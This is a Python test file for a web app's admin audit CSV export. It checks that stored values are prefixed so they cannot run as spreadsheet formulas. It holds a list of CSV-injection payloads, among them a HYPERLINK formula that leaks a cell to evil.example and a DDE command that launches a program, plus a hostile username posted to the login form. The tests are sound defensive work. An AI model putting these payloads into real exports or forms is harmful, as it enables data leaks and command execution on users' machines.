"""What leaves the app as a file: the audit CSV never carries a live spreadsheet formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

from fastapi.testclient import TestClient

from tests.review.conftest import Client
from tests.review.fixtures import Env

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def exported(client: Client) -> list[list[str]]:
    response = client.get("/admin/audit.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.text, newline="")))


def test_the_audit_csv_neutralises_formulas(env: Env, login: Callable[[str], Client]) -> None:
    for value in HOSTILE:
        env.services.review.audit("2026-05-01T10:00:00Z", value, value, value, value)
    rows = exported(login("adm"))
    assert rows[0] == ["at", "user", "action", "target", "detail"]
    cells = [cell for row in rows[1:] for cell in row[1:] if cell.lstrip("'") in HOSTILE]
    assert len(cells) == 4 * len(HOSTILE)
    assert all(cell.startswith("'") for cell in cells), cells
    assert {cell[1:] for cell in cells} == set(HOSTILE), "nothing else is changed"
    plain = [row for row in rows[1:] if row[2] == "login"]
    assert plain and plain[0][:2] == [plain[0][0], "adm"] and plain[0][0][0].isdigit()


def test_a_hostile_user_name_from_the_sign_in_form_is_inert(
    env: Env, anonymous: TestClient, login: Callable[[str], Client]
) -> None:
    name = '=HYPERLINK("http://evil.example","x")'
    anonymous.post("/login", data={"username": name, "password": "whatever-at-all"})
    rows = exported(login("adm"))
    assert [r[2] for r in rows if r[1] == "'" + name] == ["login failed"]
    assert not [r for r in rows if r[1] == name]
